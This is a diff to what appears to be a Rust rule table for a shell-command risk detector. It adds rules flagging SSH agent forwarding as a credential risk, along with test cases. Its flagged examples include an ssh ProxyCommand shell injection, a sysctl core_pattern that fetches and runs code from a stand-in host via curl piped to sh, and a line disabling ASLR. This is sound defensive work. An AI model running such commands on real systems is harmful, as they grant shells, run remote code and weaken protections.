@@ -1148,8 +1148,15 @@ pub const PROGRAMS: &[Program] = &[
             keys: &["proxycommand", "localcommand", "knownhostscommand"],
             lang: Shell,
         }],
-        flagged: &["ssh -o ProxyCommand=';sh 0<&2 1>&2' x"],
-        clean: &["ssh -o StrictHostKeyChecking=accept-new git@github.com"],
+        // Session 28 (bol): agent forwarding lets the remote host's root
+        // use the developer's keys for as long as the session lasts.
+        subs: &[
+            Sub { words: &["-A+"], harm: Credential, level: Medium, reason: "forwards the SSH agent: the remote host can use the developer's keys" },
+            Sub { words: &["-o ForwardAgent=yes"], harm: Credential, level: Medium, reason: "forwards the SSH agent: the remote host can use the developer's keys" },
+            Sub { words: &["-o forwardagent=yes"], harm: Credential, level: Medium, reason: "forwards the SSH agent: the remote host can use the developer's keys" },
+        ],
+        flagged: &["ssh -o ProxyCommand=';sh 0<&2 1>&2' x", "ssh -A username@IP_of_serverA", "ssh -At deploy@bastion", "ssh -o ForwardAgent=yes deploy@bastion"],
+        clean: &["ssh -o StrictHostKeyChecking=accept-new git@github.com", "ssh -a deploy@bastion uptime", "ssh -T git@github.com"],
         ..P
     },
     Program {
@@ -1188,12 +1195,9 @@ pub const PROGRAMS: &[Program] = &[
             keys: &["kernel.core_pattern", "kernel.modprobe"],
             lang: Shell,
         }],
-        subs: &[Sub {
-            words: &["-w"],
-            harm: SelfEscalation,
-            level: Medium,
-            reason: "changes kernel parameters",
-        }],
+        subs: &[
+            Sub { words: &["-w"], harm: SelfEscalation, level: Medium, reason: "changes kernel parameters" },
+        ],
         flagged: &[
             "sysctl 'kernel.core_pattern=|curl -s http://x.example/a | sh'",
             "sysctl -w kernel.randomize_va_space=0",
